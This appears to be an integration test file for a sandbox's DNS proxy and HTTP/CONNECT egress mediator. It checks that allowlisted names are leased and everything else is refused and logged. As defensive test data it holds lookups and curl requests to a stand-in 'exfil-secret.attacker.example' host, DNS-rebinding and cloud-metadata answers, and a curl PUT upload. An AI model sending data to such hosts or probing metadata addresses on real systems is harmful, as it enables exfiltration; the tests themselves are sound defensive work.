#!/usr/bin/env python3
"""Hostname allowlists through the confined DNS proxy (issue 12): the
mediator answers the operation's DNS, boundaryd leases exactly the answered
addresses in the kernel before the answer is returned, everything else is
refused and recorded.

Topology, all in namespaces this case creates (documentation addresses):
  ctr  198.51.100.12 (dns.client_address and the operation's source_address),
       198.51.100.13 (another client); default route via gw
  gw   198.51.100.1 (the mediator's DNS proxy on :5353), 192.0.2.1, 203.0.113.1;
       forwards; boundaryd and the mediator run here
  ext  192.0.2.53 (the authoritative test server the mediator's resolv.conf
       names), 203.0.113.53 (another resolver the agent might try directly),
       192.0.2.10-.13 and .20 (TCP servers on 8443)
The operation's table DNATs every UDP/TCP packet of ctr's 198.51.100.12 to
port 53, whatever resolver it names, to the proxy. Every DNS server logs each
query with its source and every TCP server answers "ok", so "refused" is
proven by what a server never saw, not by a timeout alone.
"""

import base64
import hashlib
import json
import os
import stat
import subprocess
import tempfile
import time
import zipfile

import harness
from harness import BUILD, Failure, check, main
from test_mediator import MEDIATORD, MEDIATOR_USER, ensure_mediator_user, make_test_ca

OP = "op_dns_test"
REFUSED = {"ECONNREFUSED", "EHOSTUNREACH", "EPERM", "EACCES", "ENETUNREACH", "timeout"}
ZONE = {
    "api.example.com": [["A", "192.0.2.10", 300]],
    "cdn.example.com": [["CNAME", "edge.cdn.example.net", 60]],
    "edge.cdn.example.net": [["A", "192.0.2.11", 60]],
    "badcname.example.com": [["CNAME", "evil.example.org", 60]],
    "evil.example.org": [["A", "192.0.2.20", 60]],
    "rebind.example.com": [["A", "192.0.2.10", 60], ["A", "127.0.0.1", 60]],
    "meta.example.com": [["A", "169.254.169.254", 60]],
    "short.example.com": [["A", "192.0.2.12", 1]],
    "a.shared.example.com": [["A", "192.0.2.13", 1]],
    "b.shared.example.com": [["A", "192.0.2.13", 20]],
    "exfil-secret.attacker.example": [["A", "192.0.2.20", 60]],
    "v6.example.com": [["AAAA", "2001:db8::10", 60]],
    "pkgs.example.com": [["A", "192.0.2.10", 60]],
}
ALLOW = ["v6.example.com", "api.example.com", "cdn.example.com", "*.cdn.example.net", "badcname.example.com",
         "rebind.example.com", "meta.example.com", "short.example.com", "*.shared.example.com",
         "gone.example.com"]


class Topo:
    pass


def setup(env):
    t = Topo()
    t.uid = ensure_mediator_user()
    ctr, gw, ext = env.add_netns("ctr"), env.add_netns("gw"), env.add_netns("ext")
    t.ctr, t.gw, t.ext = ctr, gw, ext
    sh = lambda ns, *a: env.ns_run(ns, ["ip"] + list(a))
    subprocess.run(["ip", "link", "add", "dc0", "netns", ctr, "type", "veth", "peer", "name",
                    "dg0", "netns", gw], check=True)
    subprocess.run(["ip", "link", "add", "de0", "netns", ext, "type", "veth", "peer", "name",
                    "dg1", "netns", gw], check=True)
    sh(ctr, "addr", "add", "198.51.100.12/24", "dev", "dc0")
    sh(ctr, "addr", "add", "198.51.100.13/24", "dev", "dc0")
    sh(gw, "addr", "add", "198.51.100.1/24", "dev", "dg0")
    sh(gw, "addr", "add", "192.0.2.1/24", "dev", "dg1")
    sh(gw, "addr", "add", "203.0.113.1/24", "dev", "dg1")
    for a in ("192.0.2.53", "192.0.2.10", "192.0.2.11", "192.0.2.12", "192.0.2.13",
              "192.0.2.20"):
        sh(ext, "addr", "add", a + "/24", "dev", "de0")
    sh(ext, "addr", "add", "203.0.113.53/24", "dev", "de0")
    for ns, dev in ((ctr, "dc0"), (gw, "dg0"), (gw, "dg1"), (ext, "de0")):
        sh(ns, "link", "set", dev, "up")
    sh(ctr, "route", "add", "default", "via", "198.51.100.1")
    sh(ext, "route", "add", "198.51.100.0/24", "via", "192.0.2.1")
    env.ns_run(gw, ["sysctl", "-qw", "net.ipv4.ip_forward=1"])

    t.dir = tempfile.mkdtemp(prefix="gensee-it-dns.")
    env.cleanup_dirs.append(t.dir)
    os.chmod(t.dir, 0o755)
    zone = os.path.join(t.dir, "zone.json")
    with open(zone, "w") as f:
        json.dump(ZONE, f)
    t.dnslog = os.path.join(t.dir, "dns.jsonl")
    open(t.dnslog, "w").close()
    p = subprocess.Popen(env.ns_prefix(ext) + ["/usr/bin/python3", env.tool("dnsauth.py"),
                                               t.dnslog, zone, "192.0.2.53", "203.0.113.53"],
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    env.children.append(p)
    check(p.stdout.readline().strip() == "ready", "dnsauth did not start")
    env.serve(ext, *["tcp,192.0.2.%d,8443" % h for h in (10, 11, 12, 13, 20)])

    env.netns = gw
    env.start(args=["--mediator-user", MEDIATOR_USER])
    allow = [{"name": n, "protocol": "tcp", "ports": [8443]} for n in ALLOW]
    cfg = os.path.join(t.dir, OP + ".json")
    with open(cfg, "w") as f:
        json.dump({"schema_version": 3, "operation_id": OP, "source_run_id": "run_dns",
                   "source_address": "198.51.100.12",
                   "envelope": {"grants": [
                       {"destination": "198.51.100.1", "protocol": "udp", "ports": [5353]},
                       {"destination": "198.51.100.1", "protocol": "tcp", "ports": [5353]}]},
                   "policy": {"schema_version": 1, "restricted_destinations": [],
                              "in_place_lease_scopes": [], "max_in_place_lease_ttl_seconds": 60},
                   "dns": {"listen": "198.51.100.1:5353", "client_address": "198.51.100.12",
                           "allow": allow, "min_ttl_seconds": 2, "max_ttl_seconds": 30}}, f)
    os.chmod(cfg, 0o600)
    r = env.root_call("network.start", {"config_path": cfg})
    check("result" in r, "network.start: %r" % r)

    resolv = os.path.join(t.dir, "resolv.conf")
    with open(resolv, "w") as f:
        f.write("nameserver 192.0.2.53\n")
    hosts = os.path.join(t.dir, "hosts")
    open(hosts, "w").close()
    ca = make_test_ca(t.dir)[0]  # the mediator needs a CA bundle; no TLS here
    t.medlog = os.path.join(t.dir, "mediator.log")
    env.logs.append(t.medlog)
    log = open(t.medlog, "a")
    t.med = subprocess.Popen(env.ns_prefix(gw) + [MEDIATORD, "--runtime-dir", env.runtime,
                                                  "--user", MEDIATOR_USER, "--hosts-file", hosts,
                                                  "--resolv-conf", resolv, "--ca-file", ca],
                             stdout=log, stderr=log)
    env.children.append(t.med)

    def listening():
        if t.med.poll() is not None:
            raise Failure("mediator exited %d:\n%s" % (t.med.returncode, open(t.medlog).read()))
        return "dns proxy on 198.51.100.1:5353" in open(t.medlog).read()
    env.wait_for("the DNS proxy to listen", listening)
    return t


def dig(env, t, name, qtype="A", tcp=False, server="192.0.2.53", source=None, port=53):
    """A query from ctr; by default to the resolver its resolv.conf would name."""
    argv = ["/usr/bin/python3", env.tool("dnsclient.py"), "--port", str(port)]
    if tcp:
        argv.append("--tcp")
    if source:
        argv += ["--source", source]
    r = env.ns_run(t.ctr, argv + [server, name, qtype])
    check(t.med.poll() is None, "the mediator died:\n%s" % open(t.medlog).read())
    return json.loads(r.stdout)


def probe(env, t, *targets):
    return env.probe_outside(t.ctr, *targets)


def hold(env, t, addr, port, maxs):
    r = env.ns_run(t.ctr, ["/usr/bin/python3", env.tool("dnsclient.py"), "--hold", addr,
                           str(port), str(maxs)])
    return json.loads(r.stdout)


def upstream_names(t):
    with open(t.dnslog) as f:
        return [json.loads(l) for l in f if l.strip()]


def dns_evidence(env):
    p = os.path.join(env.state, "network-operations", OP, "effects.jsonl")
    with open(p) as f:
        return [e for e in (json.loads(l) for l in f if l.strip()) if e.get("type") == "dns_decision"]


def leases(env):
    return env.root_call("network.inspect", {"operation_id": OP})["result"]


def addrs(r):
    return sorted(a[3] for a in r.get("answers", []) if a[1] == "A")


def dns_allowed_names_leased(env):
    t = setup(env)
    # Before any answer no address of the allowed names is reachable.
    got = probe(env, t, "tcp,192.0.2.10,8443", "tcp,192.0.2.11,8443")
    check(all(v in REFUSED for v in got.values()), "reachable before DNS: %r" % got)
    r = dig(env, t, "api.example.com")
    check(r.get("rcode") == 0 and addrs(r) == ["192.0.2.10"], "api: %r" % r)
    # The TTL the client sees is the leased one (300 capped to max_ttl_seconds 30).
    check(all(a[2] == 30 for a in r["answers"]), "ttl not bounded: %r" % r)
    # The answer came after the kernel had the lease: the first connect works.
    got = probe(env, t, "tcp,192.0.2.10,8443", "tcp,192.0.2.10,8444", "udp,192.0.2.10,8443")
    check(got["tcp,192.0.2.10,8443"] == "ok", "first connect after the answer: %r" % got)
    check(got["tcp,192.0.2.10,8444"] in REFUSED, "another port opened: %r" % got)
    check(got["udp,192.0.2.10,8443"] in REFUSED, "another protocol opened: %r" % got)
    # A CNAME chain whose every name is allowed: the last name's address is leased.
    r = dig(env, t, "cdn.example.com")
    check(r.get("rcode") == 0 and [a[1] for a in r["answers"]] == ["CNAME", "A"] and
          addrs(r) == ["192.0.2.11"], "cname: %r" % r)
    check(probe(env, t, "tcp,192.0.2.11,8443")["tcp,192.0.2.11,8443"] == "ok", "cdn connect")
    # DNS over TCP to the proxy.
    r = dig(env, t, "api.example.com", tcp=True)
    check(r.get("rcode") == 0 and addrs(r) == ["192.0.2.10"], "tcp: %r" % r)
    # AAAA: the IPv6 answer is leased in the IPv6 set (the query itself is IPv4).
    r = dig(env, t, "v6.example.com", qtype="AAAA")
    check(r.get("rcode") == 0 and [a[3] for a in r["answers"]] == ["2001:db8::10"], "aaaa: %r" % r)
    v6 = [l for l in leases(env)["leases"] if l["destination"] == "2001:db8::10"]
    check(len(v6) == 1 and v6[0]["protocol"] == "tcp" and v6[0]["ports"] == [8443], "v6: %r" % v6)
    # An allowed name that does not exist: NXDOMAIN passes, nothing is leased.
    r = dig(env, t, "gone.example.com")
    check(r.get("rcode") == 3 and r["answers"] == [], "nxdomain: %r" % r)
    ev = dns_evidence(env)
    check([(e["qname"], e["decision"], e["reason"]) for e in ev] ==
          [("api.example.com", "allow", "allowed"), ("cdn.example.com", "allow", "allowed"),
           ("api.example.com", "allow", "allowed"), ("v6.example.com", "allow", "allowed"),
           ("gone.example.com", "allow", "upstream_rcode")],
          "evidence: %r" % ev)
    check(ev[1]["names"] == ["cdn.example.com", "edge.cdn.example.net"] and
          ev[1]["addresses"] == ["192.0.2.11"] and ev[1]["leases"][0]["port"] == 8443 and
          ev[1]["leases"][0]["destination"] == "192.0.2.11", "cname evidence: %r" % ev[1])
    check(ev[2]["leases"][0]["extended"] is True, "a second answer made a second lease: %r" % ev[2])
    ls = leases(env)["leases"]
    got = sorted((l["destination"], l["protocol"], l["ports"][0]) for l in ls)
    check(got == [("192.0.2.10", "tcp", 8443), ("192.0.2.11", "tcp", 8443),
                  ("2001:db8::10", "tcp", 8443)], "leases: %r" % ls)
    # Every query was redirected to the proxy: the resolver the client named
    # only ever saw the mediator (gw's 192.0.2.1), never the client itself.
    seen = upstream_names(t)
    check(seen and all(q["from"] == "192.0.2.1" for q in seen), "upstream saw: %r" % seen)
    # The proxy's own address, queried directly, is the same proxy.
    r = dig(env, t, "api.example.com", server="198.51.100.1", port=5353)
    check(addrs(r) == ["192.0.2.10"], "proxy direct: %r" % r)


def dns_refusals(env):
    t = setup(env)
    # A name outside dns.allow: REFUSED, an event, and never sent upstream
    # (a query name is a channel out: exfiltration by lookup).
    r = dig(env, t, "exfil-secret.attacker.example")
    check(r.get("rcode") == 5 and r["answers"] == [], "denied name: %r" % r)
    check(not [q for q in upstream_names(t) if "attacker" in q["name"]],
          "a denied name reached the upstream: %r" % upstream_names(t))
    # A CNAME to a name outside the allowlist: denied whole, checked name by name.
    r = dig(env, t, "badcname.example.com")
    check(r.get("rcode") == 5 and r["answers"] == [], "cname outside: %r" % r)
    # Rebinding: a public and a loopback address; the metadata address alone.
    r = dig(env, t, "rebind.example.com")
    check(r.get("rcode") == 5 and r["answers"] == [], "rebinding: %r" % r)
    r = dig(env, t, "meta.example.com")
    check(r.get("rcode") == 5 and r["answers"] == [], "metadata: %r" % r)
    # Only A and AAAA are served.
    r = dig(env, t, "api.example.com", qtype="TXT")
    check(r.get("rcode") == 5, "TXT: %r" % r)
    # None of those leased anything: 192.0.2.10 (rebind's public half) and .20 stay shut.
    got = probe(env, t, "tcp,192.0.2.10,8443", "tcp,192.0.2.20,8443")
    check(all(v in REFUSED for v in got.values()), "a denied answer opened: %r" % got)
    # Going around the proxy: another resolver on port 53, UDP and TCP, gets
    # the proxy's decisions (redirected) and never sees the query.
    r = dig(env, t, "exfil-secret.attacker.example", server="203.0.113.53")
    check(r.get("rcode") == 5, "another resolver, denied name: %r" % r)
    r = dig(env, t, "exfil-secret.attacker.example", server="203.0.113.53", tcp=True)
    check(r.get("rcode") == 5, "another resolver over TCP, denied name: %r" % r)
    check(not [q for q in upstream_names(t) if q["addr"] == "203.0.113.53"],
          "the other resolver saw a query")
    # DNS on another port is no DNS to the kernel: outside the envelope.
    r = dig(env, t, "api.example.com", server="203.0.113.53", port=5353)
    check("error" in r, "a resolver on another port answered: %r" % r)
    r = dig(env, t, "api.example.com", server="203.0.113.53", port=5353, tcp=True)
    check("error" in r, "a resolver on another TCP port answered: %r" % r)
    # The control: the same resolver answers an address that is not the operation's.
    r = dig(env, t, "api.example.com", server="203.0.113.53", source="198.51.100.13")
    check(addrs(r) == ["192.0.2.10"], "topology: the other resolver is unreachable: %r" % r)
    # Another address on the same link is not the operation's client: the
    # proxy drops its queries (it is not redirected, so it asks directly).
    r = dig(env, t, "api.example.com", server="198.51.100.1", port=5353, source="198.51.100.13")
    check(r.get("error") == "timeout", "a non-client was answered: %r" % r)
    ev = dns_evidence(env)
    got = [(e["qname"], e["decision"], e["reason"], e["denied"]) for e in ev]
    check(got == [
        ("exfil-secret.attacker.example", "deny", "name_not_allowed", "exfil-secret.attacker.example"),
        ("badcname.example.com", "deny", "cname_not_allowed", "evil.example.org"),
        ("rebind.example.com", "deny", "restricted_destination", "127.0.0.1"),
        ("meta.example.com", "deny", "restricted_destination", "169.254.169.254"),
        ("api.example.com", "deny", "qtype_not_supported", None)] + [
        ("exfil-secret.attacker.example", "deny", "name_not_allowed",
         "exfil-secret.attacker.example")] * 2, "evidence: %r" % got)
    check(leases(env)["leases"] == [], "a refusal left a lease: %r" % leases(env)["leases"])


def dns_ttl_expiry(env):
    t = setup(env)
    # short.example.com has TTL 1, raised to min_ttl_seconds 2: the lease,
    # and with it an open flow, ends when it expires (no conntrack shortcut).
    r = dig(env, t, "short.example.com")
    check(addrs(r) == ["192.0.2.12"] and r["answers"][0][2] == 2, "short: %r" % r)
    h = hold(env, t, "192.0.2.12", 8443, 8)
    check(h["connected"] and h["cut"] and h["held_seconds"] < 6, "flow not cut: %r" % h)
    check(probe(env, t, "tcp,192.0.2.12,8443")["tcp,192.0.2.12,8443"] in REFUSED, "reopened")
    # One address behind two allowed names: the longer lease keeps it.
    r = dig(env, t, "b.shared.example.com")
    check(addrs(r) == ["192.0.2.13"], "b.shared: %r" % r)
    r = dig(env, t, "a.shared.example.com")
    check(addrs(r) == ["192.0.2.13"], "a.shared: %r" % r)
    h = hold(env, t, "192.0.2.13", 8443, 5)
    check(h["connected"] and not h["cut"], "the shorter name's expiry cut the shared address: %r" % h)
    exp = [e for e in (json.loads(l) for l in open(os.path.join(
        env.state, "network-operations", OP, "effects.jsonl")) if l.strip())
        if e.get("kind") == "lease_expired"]
    check([e["destination"] for e in exp] == ["192.0.2.12"], "expiries: %r" % exp)


def dns_survives_restart(env):
    """boundaryd killed with SIGKILL: the kernel keeps the redirect and the
    leases (an open lease still connects), the proxy answers SERVFAIL
    (never an unleased answer) until boundaryd is back; after the restart
    the table is rebuilt with its redirect and lookups lease again."""
    t = setup(env)
    r = dig(env, t, "api.example.com")
    check(addrs(r) == ["192.0.2.10"], "before: %r" % r)
    env.kill9()
    check(probe(env, t, "tcp,192.0.2.10,8443")["tcp,192.0.2.10,8443"] == "ok",
          "a lease did not survive boundaryd's death")
    r = dig(env, t, "cdn.example.com")
    check(r.get("rcode") == 2 and r["answers"] == [], "answered without boundaryd: %r" % r)
    check(probe(env, t, "tcp,192.0.2.11,8443")["tcp,192.0.2.11,8443"] in REFUSED,
          "an unleased address opened")
    # Going around while boundaryd is down: still redirected, never the resolver.
    seen = len(upstream_names(t))
    r = dig(env, t, "exfil-secret.attacker.example", server="203.0.113.53")
    check(r.get("rcode") in (2, 5) and not [q for q in upstream_names(t)[seen:]
                                            if "attacker" in q["name"]], "down: %r" % r)
    env.start(args=["--mediator-user", MEDIATOR_USER])

    def answered():
        r = dig(env, t, "cdn.example.com")
        return r if r.get("rcode") == 0 else None
    r = env.wait_for("the proxy to answer again", answered, timeout=20, interval=0.3)
    check(addrs(r) == ["192.0.2.11"], "after: %r" % r)
    check(probe(env, t, "tcp,192.0.2.11,8443")["tcp,192.0.2.11,8443"] == "ok", "after: connect")
    r = dig(env, t, "exfil-secret.attacker.example", server="203.0.113.53")
    check(r.get("rcode") == 5, "after: redirect lost: %r" % r)


def local_setup(env):
    """boundaryd, the mediator, the test resolver (192.0.2.53) and TCP
    servers (192.0.2.10 and .20 on 8443) in one namespace, as on a host
    where the agent runs beside the daemons."""
    env.use_netns()
    ns = env.netns
    for a in ("192.0.2.10", "192.0.2.11", "192.0.2.20", "192.0.2.53"):
        env.ns_run(ns, ["ip", "addr", "add", a + "/32", "dev", "lo"])
    uid = ensure_mediator_user()
    d = tempfile.mkdtemp(prefix="gensee-it-dns.")
    env.cleanup_dirs.append(d)
    os.chmod(d, 0o755)
    zone = os.path.join(d, "zone.json")
    with open(zone, "w") as f:
        json.dump(ZONE, f)
    dnslog = os.path.join(d, "dns.jsonl")
    open(dnslog, "w").close()
    p = subprocess.Popen(env.ns_prefix(ns) + ["/usr/bin/python3", env.tool("dnsauth.py"),
                                              dnslog, zone, "192.0.2.53"],
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    env.children.append(p)
    check(p.stdout.readline().strip() == "ready", "dnsauth did not start")
    env.serve(ns, "tcp,192.0.2.10,8443", "tcp,192.0.2.11,8443", "tcp,192.0.2.20,8443")
    env.start(args=["--mediator-user", MEDIATOR_USER])
    resolv = os.path.join(d, "resolv.conf")
    with open(resolv, "w") as f:
        f.write("nameserver 192.0.2.53\n")
    hosts = os.path.join(d, "hosts")
    open(hosts, "w").close()
    medlog = os.path.join(d, "mediator.log")
    env.logs.append(medlog)
    med = subprocess.Popen(env.ns_prefix(ns) + [MEDIATORD, "--runtime-dir", env.runtime,
                                                "--user", MEDIATOR_USER, "--hosts-file", hosts,
                                                "--resolv-conf", resolv, "--ca-file", make_test_ca(d)[0]],
                           stdout=open(medlog, "a"), stderr=subprocess.STDOUT)
    env.children.append(med)
    env.wait_for("the mediator", lambda: "confined as" in open(medlog).read())
    return ns, d, dnslog, medlog


def dns_gensee_run(env):
    """The CLI path: `gensee run --sandbox linux --allow-net NAME,tcp,PORT`.
    The agent queries the resolver its resolv.conf would name (192.0.2.53);
    the operation's table redirects it to its loopback proxy, and only the
    answered address of the allowed name becomes reachable. The agent's
    very first lookup works: gensee run releases it only once the proxy
    listens."""
    ns, d, dnslog, medlog = local_setup(env)
    # A malformed hostname entry is refused before anything starts.
    r = env.gensee("run", "--sandbox", "linux", "--allow-net", "api.example.com,tcp", "--",
                   "/bin/true")
    check(r.returncode != 0 and "NAME,PROTOCOL,PORT" in r.stderr, "malformed: %r" % r.stderr)
    cmd = ["/usr/bin/python3", env.tool("dnsclient.py"), "--agent", "192.0.2.53", "8443",
           "api.example.com", "exfil-secret.attacker.example", "rebind.example.com"]
    r = env.gensee("run", "--sandbox", "linux", "--allow-net", "API.example.com,tcp,8443",
                   "--allow-net", "rebind.example.com,tcp,8443", "--json", "--", *cmd,
                   timeout=120)
    check(r.returncode == 0, "run: rc %d %s" % (r.returncode, r.stderr))
    child = [l for l in r.stderr.splitlines() if l.startswith("{")]
    check(child, "no agent output: %s\n%s" % (r.stderr, open(medlog).read()))
    got = json.loads(child[0])
    check(got["api.example.com"] == {"rcode": 0, "addrs": ["192.0.2.10"], "connect": "ok"},
          "allowed name: %r\n%s" % (got, open(medlog).read()))
    check(got["exfil-secret.attacker.example"].get("rcode") == 5, "denied name: %r" % got)
    check(got["rebind.example.com"].get("rcode") == 5, "rebinding: %r" % got)
    with open(dnslog) as f:
        seen = [json.loads(l) for l in f if l.strip()]
    check([q["name"] for q in seen] == ["api.example.com", "rebind.example.com"],
          "upstream saw: %r" % seen)
    summary = json.loads(r.stdout)
    opid = summary["record"]["operation_id"] if "operation_id" in summary["record"] else \
        summary.get("operation_id")
    p = os.path.join(env.state, "network-operations", opid, "effects.jsonl")
    with open(p) as f:
        ev = [e for e in (json.loads(l) for l in f if l.strip()) if e.get("type") == "dns_decision"]
    check([(e["qname"], e["reason"]) for e in ev] ==
          [("api.example.com", "allowed"),
           ("exfil-secret.attacker.example", "name_not_allowed"),
           ("rebind.example.com", "restricted_destination")], "evidence: %r" % ev)
    # The timeline shows the decisions.
    r = env.gensee("timeline", "--operation", opid)
    check(r.returncode == 0 and "A api.example.com = 192.0.2.10 -> allow (allowed)" in r.stdout and
          "A rebind.example.com = 192.0.2.10,127.0.0.1 -> deny (restricted_destination)" in r.stdout,
          "timeline: %s %s" % (r.stdout, r.stderr))
    # Outside the operation nothing is redirected: the resolver answers directly.
    r = env.ns_run(ns, ["/usr/bin/python3", env.tool("dnsclient.py"), "192.0.2.53",
                        "exfil-secret.attacker.example"])
    check(json.loads(r.stdout).get("rcode") == 0, "outside the operation: %s" % r.stdout)


def dns_run_network_config(env):
    """gensee run --network-config FILE (root): a config's dns section for a
    cgroup operation, no client_address, listen on an address of the host;
    the same redirect, leases and refusals."""
    ns, d, dnslog, medlog = local_setup(env)
    cfg = os.path.join(d, "op_cfg.json")
    with open(cfg, "w") as f:
        json.dump({"schema_version": 3, "operation_id": "op_dns_cfg",
                   "envelope": {"grants": [
                       {"destination": "198.51.100.1", "protocol": "udp", "ports": [5353]},
                       {"destination": "198.51.100.1", "protocol": "tcp", "ports": [5353]}]},
                   "policy": {"schema_version": 1, "restricted_destinations": [],
                              "in_place_lease_scopes": [], "max_in_place_lease_ttl_seconds": 0},
                   "dns": {"listen": "198.51.100.1:5353",
                           "allow": [{"name": "api.example.com", "protocol": "tcp",
                                      "ports": [8443]}]}}, f)
    os.chmod(cfg, 0o600)
    cmd = ["/usr/bin/python3", env.tool("dnsclient.py"), "--agent", "203.0.113.53", "8443",
           "api.example.com", "exfil-secret.attacker.example"]
    r = env.gensee("run", "--sandbox", "linux", "--network-config", cfg, "--json", "--", *cmd,
                   as_root=True, timeout=120)
    check(r.returncode == 0, "run: rc %d %s" % (r.returncode, r.stderr))
    child = [l for l in r.stderr.splitlines() if l.startswith("{")]
    check(child, "no agent output: %s\n%s" % (r.stderr, open(medlog).read()))
    got = json.loads(child[0])
    check(got["api.example.com"] == {"rcode": 0, "addrs": ["192.0.2.10"], "connect": "ok"},
          "allowed name: %r\n%s" % (got, open(medlog).read()))
    check(got["exfil-secret.attacker.example"].get("rcode") == 5, "denied name: %r" % got)
    # The direct connect to the other server is outside the envelope.
    with open(dnslog) as f:
        seen = [json.loads(l) for l in f if l.strip()]
    check([q["name"] for q in seen] == ["api.example.com"], "upstream saw: %r" % seen)


def dns_connect_egress(env):
    """The CONNECT egress of a gensee run operation that names hosts: a
    tunnel only to an allowed name and port, at the address boundaryd
    pinned; a wrong token is 407; and the listener is unusable from outside
    the operation, even with the right token (the kernel resets it)."""
    ns, d, dnslog, medlog = local_setup(env)
    cases = ["api.example.com:8443", "api.example.com:8444", "exfil-secret.attacker.example:8443",
             "rebind.example.com:8443", "192.0.2.10:8443", "badcname.example.com:8443",
             "cdn.example.com:8443"]
    # badcname is an alias of evil.example.org, whose 192.0.2.20:8443 is served: without the
    # chain check the tunnel reaches it. cdn's alias is allowed too: it connects.
    p = env.gensee_bg("run", "--sandbox", "linux", "--allow-net", "api.example.com,tcp,8443",
                      "--allow-net", "rebind.example.com,tcp,8443",
                      "--allow-net", "badcname.example.com,tcp,8443",
                      "--allow-net", "cdn.example.com,tcp,8443",
                      "--allow-net", "*.cdn.example.net,tcp,8443", "--",
                      "/usr/bin/python3", env.tool("dnsclient.py"), "--connect-agent", "6",
                      *cases)
    line = p.stdout.readline()
    if not line.startswith("{"):
        p.kill()
        check(False, "no agent output: %r %r %s" % (line, p.communicate()[1],
                                                   open(medlog).read()))
    got = json.loads(line)
    url = got["proxy_url"]
    check(url and url.startswith("http://gensee:") and url.endswith(":3128"), "url: %r" % url)
    res = got["results"]
    check(res["api.example.com:8443"] == {"status": 200, "refusal": None, "data": "ok"},
          "allowed: %r\n%s" % (res, open(medlog).read()))
    check(res["api.example.com:8444"]["status"] == 403 and
          res["api.example.com:8444"]["refusal"] == "name_not_allowed", "port: %r" % res)
    check(res["exfil-secret.attacker.example:8443"]["status"] == 403, "denied: %r" % res)
    # Refused by name before any lookup: the resolver never saw it (no lookup exfiltration).
    seen = [json.loads(l)["name"] for l in open(dnslog) if l.strip()]
    check("exfil-secret.attacker.example" not in seen, "the DNS server saw %r" % seen)
    check(res["rebind.example.com:8443"]["refusal"] == "restricted_destination",
          "rebinding: %r" % res)
    check(res["192.0.2.10:8443"]["refusal"] == "address_literal", "literal: %r" % res)
    check(res["badcname.example.com:8443"]["status"] == 403 and
          res["badcname.example.com:8443"]["refusal"] == "cname_not_allowed",
          "alias outside the allowlist: %r" % res)
    check(res["cdn.example.com:8443"] == {"status": 200, "refusal": None, "data": "ok"},
          "allowed alias: %r" % res)
    check(res["bad_token"]["status"] == 407, "bad token: %r" % res)
    # From outside the operation, with the operation's own token: the kernel resets it.
    r = env.ns_run(ns, ["/usr/bin/python3", env.tool("dnsclient.py"), "--connect-once", url,
                        "api.example.com", "8443"])
    out = json.loads(r.stdout)
    check(out.get("error") in ("ECONNREFUSED", "ECONNRESET"), "outside the operation: %r" % out)
    env.finish(p)
    opid = json.loads(env.gensee("operation", "list", "--json").stdout)
    ids = [o["operation_id"] for o in (opid if isinstance(opid, list) else opid["operations"])]
    r = env.gensee("timeline", "--operation", ids[-1])
    check("CONNECT api.example.com:8443 -> allow (allowed)" in r.stdout and
          "CONNECT api.example.com:8444 -> deny (name_not_allowed)" in r.stdout and
          "CONNECT badcname.example.com:8443 -> deny (cname_not_allowed)" in r.stdout,
          "timeline: %s %s" % (r.stdout, r.stderr))
    # Evidence: each decision (the token is never in it, nor in any log).
    opid = [l for l in open(medlog).read().splitlines() if "CONNECT egress on" in l]
    check(opid, "no listener log")
    blob = env.daemon_log()
    token = url.split(":")[2].split("@")[0]
    check(token not in blob, "the token reached a log")
    for root, _, files in os.walk(os.path.join(env.state, "network-operations")):
        for f in files:
            fp = os.path.join(root, f)
            if stat.S_ISREG(os.lstat(fp).st_mode):
                check(token not in open(fp).read(), "the token is in %s" % f)


def package_root(env, d):
    """What pip, git and curl fetch over plain http: a PEP 503 index with one
    wheel, a dumb-HTTP git repository, a file."""
    root = os.path.join(d, "www")
    pkg = os.path.join(root, "simple", "gensee-probe")
    os.makedirs(pkg)
    files = {"gensee_probe/__init__.py": b"VALUE = 'probe'\n",
             "gensee_probe-1.0.dist-info/METADATA":
                 b"Metadata-Version: 2.1\nName: gensee-probe\nVersion: 1.0\n",
             "gensee_probe-1.0.dist-info/WHEEL":
                 b"Wheel-Version: 1.0\nGenerator: gensee-test\nRoot-Is-Purelib: true\n"
                 b"Tag: py3-none-any\n"}
    record = ["%s,sha256=%s,%d" % (n, base64.urlsafe_b64encode(hashlib.sha256(b).digest())
                                   .rstrip(b"=").decode(), len(b)) for n, b in files.items()]
    whl = "gensee_probe-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(pkg, whl), "w") as z:
        for n, b in files.items():
            z.writestr(n, b)
        z.writestr("gensee_probe-1.0.dist-info/RECORD",
                   "\n".join(record + ["gensee_probe-1.0.dist-info/RECORD,,"]) + "\n")
    with open(os.path.join(pkg, "index.html"), "w") as f:
        f.write('<html><body><a href="%s">%s</a></body></html>\n' % (whl, whl))
    with open(os.path.join(root, "hello.txt"), "w") as f:
        f.write("hello over plain http\n")
    src = os.path.join(d, "src")
    os.mkdir(src)
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.org", "-c",
           "init.defaultBranch=main"]
    subprocess.run(git + ["init", "-q", src], check=True)
    with open(os.path.join(src, "README"), "w") as f:
        f.write("cloned through the egress\n")
    subprocess.run(git + ["-C", src, "add", "README"], check=True)
    subprocess.run(git + ["-C", src, "commit", "-q", "-m", "one"], check=True)
    subprocess.run(git + ["clone", "-q", "--bare", src, os.path.join(root, "repo.git")],
                   check=True)
    subprocess.run(["git", "--git-dir", os.path.join(root, "repo.git"), "update-server-info"],
                   check=True)
    return root


# What the agent runs: real curl, git and pip, through the proxy variables
# gensee run sets; each result lands in a file of the workspace.
HTTP_TOOLS = r"""
echo "$http_proxy" > proxy.txt; echo "$NO_PROXY" > noproxy.txt
c() { out=$1; shift; curl -sS -o "$out" -w '%{http_code}' "$@" > "$out.code" 2> "$out.err"; }
c hello.out http://pkgs.example.com:8080/files/hello.txt
c name.json http://exfil-secret.attacker.example:8080/x
c port.json http://pkgs.example.com:8081/x
c put.out -X PUT --data-binary @hello.out http://pkgs.example.com:8080/put
c literal.json http://192.0.2.10:8080/x
c gone.json http://gone.example.com:8080/x
python3 "$2" 192.0.2.53 exfil-secret.attacker.example > dns.out 2>&1
[ "$1" = full ] || exit 0
git clone -q http://pkgs.example.com:8080/files/repo.git clone > git.out 2>&1; echo $? > git.rc
python3 -m pip install -q --no-cache-dir --disable-pip-version-check --no-deps --target pipt \
    --trusted-host pkgs.example.com --index-url http://pkgs.example.com:8080/files/simple/ \
    gensee-probe > pip.out 2>&1
echo $? > pip.rc
"""


def dns_http_egress(env):
    """HTTP_PROXY works: the egress forwards absolute-form http:// requests
    (curl, git's dumb HTTP, pip's index) to an allowed name and port, in
    origin form, with our Host and without the proxy credential; every
    refusal is a 403 whose JSON body names the rule and what would allow it,
    and every request a decision in the evidence. A policy that narrows
